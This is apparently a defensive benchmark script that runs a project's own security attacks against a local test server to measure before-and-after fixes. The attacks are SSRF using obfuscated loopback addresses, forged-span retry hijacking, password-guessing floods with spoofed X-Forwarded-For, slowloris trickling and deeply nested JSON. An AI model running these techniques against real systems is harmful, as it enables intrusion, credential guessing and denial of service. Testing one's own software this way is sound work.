"""``python -m benchmarks.security_attacks [--only ssrf,hijack,runners,signin,slow,json] [--connections N --seconds S]``

The attacks of issue #13, run against a real ``execlog serve`` subprocess on 127.0.0.1, each printing
what it observed: whether span data steered the server's requests, whether a forged attempt took over
a retry, how dead runners, password guessing and trickling clients affect other requests, and what
deep JSON answers. Run it on two checkouts (``PYTHONPATH=<old>/src``) for before/after figures.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import hmac
import http.server
import json
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from http.cookiejar import CookieJar
from pathlib import Path
from typing import Any

from benchmarks.common import ServeProcess, clean_env, log

SECRET = "attack-bench-secret"


class Recorder(http.server.ThreadingHTTPServer):
    """A stand-in for a runner or an internal service: records what reaches it, answers like a listener."""

    daemon_threads = True

    def __init__(self, body: bytes | None = None, hang: bool = False, status: int = 0) -> None:
        self.seen: list[tuple[str, bytes]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802
                data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                outer.seen.append((self.path, data))
                if hang:
                    time.sleep(3600)
                if body is not None:
                    payload = body
                elif self.path.endswith("/check"):
                    items = json.loads(data).get("items", [])
                    payload = json.dumps({"items": [{"ok": True} for _ in items]}).encode()
                else:
                    payload = json.dumps({"status": "accepted", "error": "internal-secret-text"}).encode()
                self.send_response(status or (202 if not self.path.endswith("/check") else 200))
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server_address[1]


def call(method: str, url: str, body: Any = None, headers: dict[str, str] | None = None, timeout: float = 120,
         opener: Any = None) -> tuple[int, dict[str, str], bytes, float]:
    data = json.dumps(body).encode() if body is not None and not isinstance(body, bytes) else body
    req = urllib.request.Request(url, data=data, method=method, headers={"Content-Type": "application/json",
                                                                       **(headers or {})})
    t = time.perf_counter()
    try:
        with (opener or urllib.request.build_opener()).open(req, timeout=timeout) as resp:
            return resp.status, dict(resp.headers), resp.read(), time.perf_counter() - t
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read(), time.perf_counter() - t
    except OSError as exc:
        return 0, {}, str(exc).encode(), time.perf_counter() - t


def proof(execution_id: str, attempt: int, trace_id: str, span_id: str, url: str, payload: str) -> str:
    """What a runner holding SECRET records (execlog_otel.retry.proof, v1), written out so that this
    script also runs against checkouts that predate it."""
    fields = ["execlog-attempt-v1", execution_id, str(attempt), trace_id, span_id, url,
              hashlib.sha256(payload.encode()).hexdigest()]
    return "v1:" + hmac.new(SECRET.encode(), "\n".join(fields).encode(), hashlib.sha256).hexdigest()


def failed_execution(base: str, retry_url: str, payload: dict, *, retry_of: str = "", attempt: int = 1,
                     start_ns: int | None = None, proven: bool = True) -> str:
    """Send one failed automation root span; its trace id. ``proven``: as the runner (holding the retry
    secret) records it; otherwise as anyone else who can send spans."""
    trace_id, span_id = uuid.uuid4().hex, uuid.uuid4().hex[:16]
    now = start_ns or time.time_ns()
    attrs = {"execlog.kind": "automation", "execlog.execution.name": "nightly", "execlog.status": "Failed",
             "execlog.trigger.payload": json.dumps(payload), "execlog.trigger.fingerprint": "fp"}
    if retry_of:
        attrs.update({"execlog.retry_of": retry_of, "execlog.attempt": str(attempt)})
    if proven:
        attrs["execlog.retry.proof"] = proof(retry_of or trace_id, attempt, trace_id, span_id, retry_url,
                                             attrs["execlog.trigger.payload"])
    span = {"traceId": trace_id, "spanId": span_id, "name": "nightly", "kind": 1,
            "startTimeUnixNano": str(now), "endTimeUnixNano": str(now + 10**6), "status": {"code": 2},
            "attributes": [{"key": k, "value": {"stringValue": v}} for k, v in attrs.items()]}
    resource = [{"key": "service.name", "value": {"stringValue": "runner"}},
                {"key": "execlog.retry.url", "value": {"stringValue": retry_url}}]
    body = {"resourceSpans": [{"resource": {"attributes": resource}, "scopeSpans": [{"spans": [span]}]}]}
    status = call("POST", base + "/v1/traces", body)[0]
    assert status == 200, status
    return trace_id


def wait_listed(base: str, ids: list[str]) -> None:
    for _ in range(200):
        body = json.loads(call("GET", f"{base}/api/executions?limit=200")[2] or b"{}")
        if {i for i in ids} <= {r.get("id") or r.get("execution_id") for r in body.get("items", [])}:
            return
        time.sleep(0.1)


def csrf_opener(base: str) -> tuple[Any, dict[str, str]]:
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(CookieJar()))
    token = json.loads(call("GET", base + "/api/retry/csrf", opener=opener)[2])["token"]
    return opener, {"X-CSRF-Token": token}


def serve(tmp: Path, **env: str) -> tuple[Any, str]:
    running = ServeProcess(tmp / uuid.uuid4().hex, env={**clean_env(), "EXECLOG_RETRY_SECRET": SECRET, **env})
    return running.proc, running.url


def attack_ssrf(tmp: Path) -> dict[str, Any]:
    out: dict[str, Any] = {}
    inner = Recorder(status=500)
    proc, base = serve(tmp)
    try:
        forms = {"localhost": f"http://localhost:{inner.port}/internal?q=1",
                 "hex": f"http://0x7f000001:{inner.port}/internal", "decimal": f"http://2130706433:{inner.port}/x",
                 "ipv6-mapped": f"http://[::ffff:127.0.0.1]:{inner.port}/x"}
        ids = {form: failed_execution(base, url, {"a": 1}) for form, url in forms.items()}
        wait_listed(base, list(ids.values()))
        for form, eid in ids.items():
            before = len(inner.seen)
            status, _, body, _ = call("GET", f"{base}/api/executions/{eid}/retry")  # no CSRF token
            out[f"GET status ({form}) contacted target"] = len(inner.seen) > before
        out["target text shown"] = any(b"internal-secret-text" in call(
            "POST", f"{base}/api/executions/{eid}/retry", {}, {**hdr}, opener=op)[2]
            for eid in ids.values() for op, hdr in [csrf_opener(base)])
    finally:
        proc.kill()
    allowed = f"http://127.0.0.1:{inner.port}/allowed"
    proc, base = serve(tmp, EXECLOG_RETRY_ALLOWED_URLS=allowed)
    try:
        for label, url in {"/allowed/../secret": allowed + "/../secret", "/allowed-not/x": allowed + "-not/x",
                           "hex host /allowed/x": f"http://0x7f000001:{inner.port}/allowed/x"}.items():
            eid = failed_execution(base, url, {"a": 1})
            wait_listed(base, [eid])
            op, hdr = csrf_opener(base)
            before = len(inner.seen)
            status = call("POST", f"{base}/api/executions/{eid}/retry", {}, hdr, opener=op)[0]
            out[f"allowlist {label}: status, reached"] = (status, len(inner.seen) > before)
    finally:
        proc.kill()
    return out


def attack_hijack(tmp: Path) -> dict[str, Any]:
    victim_runner, attacker = Recorder(), Recorder()
    proc, base = serve(tmp)
    try:
        victim = failed_execution(base, f"http://127.0.0.1:{victim_runner.port}/execlog/retry", {"order": 7})
        wait_listed(base, [victim])
        forged = failed_execution(base, f"http://127.0.0.1:{attacker.port}/execlog/retry", {"order": "evil"},
                                  retry_of=victim, attempt=2, proven=False)
        fabricated = failed_execution(base, f"http://127.0.0.1:{attacker.port}/execlog/retry", {"order": "evil"},
                                      proven=False)
        time.sleep(1)
        op, hdr = csrf_opener(base)
        status, _, body, _ = call("POST", f"{base}/api/executions/{victim}/retry", {}, hdr, opener=op)
        wait_listed(base, [fabricated])
        fabricated_status = call("POST", f"{base}/api/executions/{fabricated}/retry", {}, hdr, opener=op)[0]
        listed = json.loads(call("GET", f"{base}/api/executions?limit=200")[2])["items"]
        ids = [r.get("id") or r.get("execution_id") for r in listed]
        return {"retry status": status, "retry of an execution made of span data alone": fabricated_status,
                "calls to the attacker": len(attacker.seen),
                "calls to the victim's runner": len(victim_runner.seen),
                "payload sent": [json.loads(b).get("trigger_payload") for p, b in
                                 victim_runner.seen + attacker.seen if not p.endswith("/check")],
                "forged trace listed as its own execution": forged in ids}
    finally:
        proc.kill()


def attack_runners(tmp: Path) -> dict[str, Any]:
    dead = [Recorder(hang=True) for _ in range(10)]
    huge_body = b'{"error": "' + b"x" * (200 * 1024 * 1024) + b'"}'
    huge = Recorder(body=huge_body)
    proc, base = serve(tmp)
    out: dict[str, Any] = {}
    try:
        ids = [failed_execution(base, f"http://127.0.0.1:{r.port}/execlog/retry", {"a": 1}) for r in dead]
        wait_listed(base, ids)
        op, hdr = csrf_opener(base)
        pool = ThreadPoolExecutor(20)
        gets = [pool.submit(call, "GET", f"{base}/api/executions/{eid}/retry") for eid in ids]
        posts = [pool.submit(call, "POST", f"{base}/api/executions/{eid}/retry", {}, hdr, 120, op) for eid in ids]
        time.sleep(1)
        health = [call("GET", base + "/api/health", timeout=60)[3] for _ in range(3)]
        listing = [call("GET", base + "/api/executions", timeout=60)[3] for _ in range(3)]
        out["/api/health s (max of 3) with 10 dead runners"] = round(max(health), 2)
        out["listing s (max of 3) with 10 dead runners"] = round(max(listing), 2)
        out["dead-runner retry: status, s"] = sorted({(f.result()[0], round(f.result()[3])) for f in posts})
        out["dead-runner GET status s (max)"] = round(max(f.result()[3] for f in gets), 1)
        rss0 = _rss(proc.pid)
        eid = failed_execution(base, f"http://127.0.0.1:{huge.port}/execlog/retry", {"a": 1})
        wait_listed(base, [eid])
        status, _, body, _ = call("POST", f"{base}/api/executions/{eid}/retry", {}, hdr, opener=op)
        out["200 MB runner answer: status, answer bytes, serve RSS growth MB"] = (
            status, len(body), round((_rss(proc.pid) - rss0) / 2**20))
    finally:
        proc.kill()
    return out


def _rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM"):
            return int(line.split()[1]) * 1024
    return 0


def login_csrf(base: str, opener: Any) -> str:
    """The CSRF token of the sign-in form (the page sets it as a cookie and a hidden field)."""
    page = call("GET", base + "/login", opener=opener)[2].decode()
    return page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]


def attack_signin(tmp: Path) -> dict[str, Any]:
    from werkzeug.security import generate_password_hash

    out: dict[str, Any] = {}
    users = f"ada:{generate_password_hash('right-password', method='scrypt')}"
    proc, base = serve(tmp, EXECLOG_AUTH_USERS=users, EXECLOG_AUTH_TOKEN="t" * 40, EXECLOG_SECRET_KEY="k" * 40)
    try:
        def login(user: str, password: str, opener: Any = None) -> tuple[int, dict, float]:
            opener = opener or urllib.request.build_opener(urllib.request.HTTPCookieProcessor(CookieJar()))
            tok = login_csrf(base, opener)
            data = f"user={user}&password={password}&csrf_token={tok}".encode()
            req = urllib.request.Request(base + "/login", data=data, method="POST")
            t = time.perf_counter()
            try:
                resp = opener.open(req, timeout=60)
                return resp.status, dict(resp.headers), time.perf_counter() - t
            except urllib.error.HTTPError as exc:
                return exc.code, dict(exc.headers), time.perf_counter() - t

        known = [login("ada", f"wrong{i}")[2] for i in range(5)]
        unknown = [login(f"nobody{i}", "wrong")[2] for i in range(5)]
        out["wrong password ms (known user, median)"] = round(statistics.median(known) * 1000)
        out["wrong password ms (unknown user, median)"] = round(statistics.median(unknown) * 1000)
        statuses = [login("ada", f"guess{i}")[0] for i in range(200)]
        out["200 guesses: statuses"] = {s: statuses.count(s) for s in set(statuses)}
        out["right password after the guesses"] = login("ada", "right-password")[0]
        bearer = [call("GET", base + "/api/executions", headers={"Authorization": f"Bearer guess{i}"})[0]
                  for i in range(100)]
        out["100 bearer guesses: statuses"] = {s: bearer.count(s) for s in set(bearer)}
    finally:
        proc.kill()
    out.update(attack_flood(tmp, users))
    proc, base = serve(tmp, EXECLOG_AUTH_USERS=users, EXECLOG_SECRET_KEY="k" * 40,
                       EXECLOG_TRUSTED_PROXIES="127.0.0.1")
    try:
        jar = CookieJar()
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
        tok = login_csrf(base, opener)
        call("POST", base + "/login", f"user=ada&password=right-password&csrf_token={tok}".encode(),
             {"Content-Type": "application/x-www-form-urlencoded"}, opener=opener)
        cookie = "; ".join(f"{c.name}={c.value}" for c in jar)
        tok = json.loads(call("GET", base + "/api/session", opener=opener)[2])["csrf_token"]
        call("POST", base + "/logout", f"csrf_token={tok}".encode(),
             {"Content-Type": "application/x-www-form-urlencoded"}, opener=opener)
        out["old session cookie after logout"] = call("GET", base + "/api/executions", headers={"Cookie": cookie})[0]
        https = call("GET", base + "/login", headers={"X-Forwarded-Proto": "https"})[1]
        out["cookie Secure behind a declared proxy sending X-Forwarded-Proto: https"] = \
            "secure" in str(https.get("Set-Cookie", "")).lower()
    finally:
        proc.kill()
    return out


FLOOD_CLIENTS = 16
PROBES = 100  # per phase
ROUNDS = 3  # quiet and each flood, in turn: the machine's own load varies, so samples are pooled over rounds


def attack_flood(tmp: Path, users: str = "") -> dict[str, Any]:
    """Other users' median /api/health while 16 clients guess passwords as fast as the server answers.

    The guessers come from their own address (127.0.0.2; Linux loopback accepts any 127/8 source), or
    through the declared proxy (127.0.0.1) naming one client in X-Forwarded-For; the other user probes
    from 127.0.0.1. A flood of /api/health of the same size shows what request volume alone costs.
    Quiet and flooded phases alternate for ``ROUNDS`` rounds; each median is over all its rounds' probes."""
    if not users:
        from werkzeug.security import generate_password_hash

        users = f"ada:{generate_password_hash('right-password', method='scrypt')}"
    proc, base = serve(tmp, EXECLOG_AUTH_USERS=users, EXECLOG_SECRET_KEY="k" * 40,
                       EXECLOG_TRUSTED_PROXIES="127.0.0.1")
    floods = {"16 clients guessing passwords from 127.0.0.2": ("login", "127.0.0.2"),
              "16 clients guessing through the declared proxy (X-Forwarded-For)": ("login", "127.0.0.1",
                                                                                   "203.0.113.7"),
              "16 clients calling /api/health from 127.0.0.2": ("health", "127.0.0.2")}
    samples: dict[str, list[float]] = {"quiet": [], **{label: [] for label in floods}}
    summaries: dict[str, list[str]] = {label: [] for label in floods}
    cpu: dict[str, list[float]] = {label: [] for label in floods}
    try:
        def probe(into: list[float]) -> None:
            into.extend(call("GET", base + "/api/health")[3] for _ in range(PROBES))

        for _ in range(ROUNDS):
            for label, args in floods.items():
                probe(samples["quiet"])
                flood = subprocess.Popen([sys.executable, "-c", FLOOD, base, args[0], str(FLOOD_CLIENTS), args[1],
                                          args[2] if len(args) > 2 else ""], stdout=subprocess.PIPE, text=True)
                try:
                    time.sleep(3)
                    cpu0, t0 = _cpu_s(proc.pid), time.monotonic()
                    time.sleep(2)  # the server's CPU under the flood alone, without the probe
                    cpu[label].append((_cpu_s(proc.pid) - cpu0) / (time.monotonic() - t0))
                    probe(samples[label])
                    summaries[label].append(_flood_summary(flood))
                finally:
                    flood.kill()
                    flood.wait()
                time.sleep(1)
    finally:
        proc.kill()
    quiet = statistics.median(samples["quiet"])
    out: dict[str, Any] = {"API median ms, quiet": round(quiet * 1000, 2)}
    for label in floods:
        median = statistics.median(samples[label])
        out[f"API median ms, {label}"] = (f"{median * 1000:.2f} ({median / quiet:.1f}x quiet); serve CPU "
                                          f"{statistics.median(cpu[label]) * 100:.0f}% of a core under the flood "
                                          f"alone; flood per round: {'; '.join(summaries[label])}")
    return out


def _cpu_s(pid: int) -> float:
    """CPU seconds (user + system) the process has used so far."""
    import os

    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _flood_summary(flood: subprocess.Popen) -> str:
    """What the flood process counted (it prints its counts when asked to stop)."""
    import signal

    flood.send_signal(signal.SIGTERM)
    try:
        counts = json.loads(flood.communicate(timeout=10)[0] or "{}")
    except (subprocess.TimeoutExpired, ValueError):
        return "?"
    seconds = counts.pop("seconds", 0) or 1
    total = sum(counts.values())
    return f"{total / seconds:.0f} answers/s, statuses {counts}"


# Run in its own process, so the flood does not compete with the measuring client for the GIL.
# http.client, not urllib: it can choose the source address.
FLOOD = """
import http.client, json, os, signal, sys, threading, time
base, kind, n, source, forwarded_for = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
host, port = base.split("//")[1].split(":")
counts, lock, began = {}, threading.Lock(), time.monotonic()
def stop(*_):
    with lock:
        print(json.dumps({**counts, "seconds": time.monotonic() - began}), flush=True)
    os._exit(0)
signal.signal(signal.SIGTERM, stop)
def connect():
    return http.client.HTTPConnection(host, int(port), timeout=60, source_address=(source, 0))
def run(k):
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    conn = connect()
    conn.request("GET", "/login", headers=headers)
    resp = conn.getresponse()
    page = resp.read().decode()
    tok = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    cookie = resp.getheader("Set-Cookie", "").split(";", 1)[0]
    i = 0
    while True:
        i += 1
        try:
            if kind == "login":
                conn.request("POST", "/login", f"user=ada&password=g{k}-{i}&csrf_token={tok}",
                             {**headers, "Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"})
            else:
                conn.request("GET", "/api/health", headers=headers)
            resp = conn.getresponse()
            resp.read()
            status = str(resp.status)
        except (OSError, http.client.HTTPException):
            conn.close()
            conn = connect()
            status = "error"
        with lock:
            counts[status] = counts.get(status, 0) + 1
for k in range(n):
    threading.Thread(target=run, args=(k,), daemon=True).start()
while True:
    time.sleep(1)
"""


async def _trickle(host: str, port: int, seconds: float, counts: dict[str, int]) -> None:
    """Keep one connection trickling a request that never completes; reconnect when the server drops it."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["refused"] += 1
            await asyncio.sleep(1)
            continue
        counts["opened"] += 1
        try:
            writer.write(b"GET /api/health HTTP/1.1\r\nHost: x\r\n")
            while time.monotonic() < end and not reader.at_eof():
                writer.write(b"X-Slow: a\r\n")
                await writer.drain()
                await asyncio.sleep(5)
            if reader.at_eof():
                counts["dropped by the server"] += 1
        except OSError:
            counts["dropped by the server"] += 1
        finally:
            writer.close()


def attack_slow(tmp: Path, connections: int, seconds: float) -> dict[str, Any]:
    proc, base = serve(tmp)
    host, port = base.split("//")[1].split(":")
    counts = {"opened": 0, "refused": 0, "dropped by the server": 0}
    try:
        loop_thread = threading.Thread(target=lambda: asyncio.run(_gather(host, int(port), connections, seconds,
                                                                          counts)), daemon=True)
        loop_thread.start()
        time.sleep(min(10, seconds / 3))
        answered = total = 0
        end = time.monotonic() + seconds - min(10, seconds / 3)
        while time.monotonic() < end:
            total += 1
            status, _, _, took = call("GET", base + "/api/executions?limit=5", timeout=2)
            answered += status == 200 and took <= 2
            time.sleep(0.5)
        loop_thread.join(seconds + 30)
        return {f"trickling connections (kept at {connections})": counts,
                "API probes answered within 2 s": f"{answered}/{total}"}
    finally:
        proc.kill()


async def _gather(host: str, port: int, n: int, seconds: float, counts: dict[str, int]) -> None:
    tasks = []
    for i in range(n):
        tasks.append(asyncio.create_task(_trickle(host, port, seconds, counts)))
        if i % 50 == 49:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks)


def attack_json(tmp: Path) -> dict[str, Any]:
    proc, base = serve(tmp)
    eid = "0" * 31 + "1"
    deep = b'{"ids": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    try:
        out = {}
        for path in ("/api/retry/preview", "/api/retry/bulk", f"/api/executions/{eid}/retry",
                     "/api/executions/code.zip"):
            op, hdr = csrf_opener(base)
            out[f"deep JSON {path}"] = call("POST", base + path, deep, hdr, opener=op)[0]
        return out
    finally:
        proc.kill()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--only", default="ssrf,hijack,runners,signin,slow,json",
                        help="comma-separated; flood: only the password flood of signin")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=60)
    args = parser.parse_args()
    socket.setdefaulttimeout(None)
    with tempfile.TemporaryDirectory() as d:
        tmp = Path(d)
        for name in args.only.split(","):
            log(f"attack: {name}")
            result = (attack_slow(tmp, args.connections, args.seconds) if name == "slow"
                      else globals()[f"attack_{name}"](tmp))
            for key, value in result.items():
                print(f"{name}: {key}: {value}", flush=True)


if __name__ == "__main__":
    main()
